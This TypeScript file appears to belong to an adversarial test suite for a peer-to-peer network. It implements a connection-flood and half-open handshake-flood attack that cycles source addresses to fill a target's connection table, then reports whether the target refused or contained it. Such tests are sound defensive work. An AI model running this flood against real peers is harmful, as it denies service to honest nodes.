/**
 * Finding 8, connections: an attacker with many addresses opens authenticated peer connections, each as
 * a fresh node id, as fast as it can and holds them open, to fill the target's connection table so that
 * honest nodes are refused. Half-open: the same with handshakes left unfinished (message 3 never sent),
 * which cost the target a socket and the handshake's first half each.
 */
import type { PeerEndpoint } from "../../peer/network.ts";
import { attackerDial } from "./peer-dial.ts";
import type { AttackReport } from "./peer-attacks.ts";
import type { RawWebSocket } from "./raw-websocket.ts";

export interface ConnectionFloodOptions {
  target: PeerEndpoint;
  /** Source addresses to cycle through (one /24 in the hostile test). */
  sources: string[];
  connections: number;
  /** Connections opened at once. @default 32 */
  parallel?: number;
  /** Leave every handshake unfinished. */
  halfOpen?: boolean;
}

export interface ConnectionFlood {
  report: AttackReport;
  /** Closes every connection the attacker still holds. */
  release(): void;
}

export async function floodPeerConnections(o: ConnectionFloodOptions): Promise<ConnectionFlood> {
  const held: RawWebSocket[] = [];
  let accepted = 0;
  let refused = 0;
  let next = 0;
  const worker = async () => {
    while (next < o.connections) {
      const i = next++;
      try {
        const { ok, ws } = await attackerDial({ target: o.target, localAddress: o.sources[i % o.sources.length], halfOpen: o.halfOpen });
        if (ok) (accepted++, held.push(ws));
        else (refused++, ws.close());
      } catch {
        refused++;
      }
    }
  };
  await Promise.all(Array.from({ length: o.parallel ?? 32 }, worker));
  // Held means still open a moment later: a connection the target closed at once was not kept.
  await Bun.sleep(200);
  const open = held.filter((w) => !w.isClosed()).length;
  return {
    report: {
      finding: 8, attack: o.halfOpen ? "peer-handshake-flood" : "peer-connection-flood",
      outcome: open === 0 ? "refused" : open === o.connections ? "succeeded" : "contained",
      detail: { attempted: o.connections, accepted, refused, heldOpen: open },
    },
    release: () => held.forEach((w) => w.close()),
  };
}
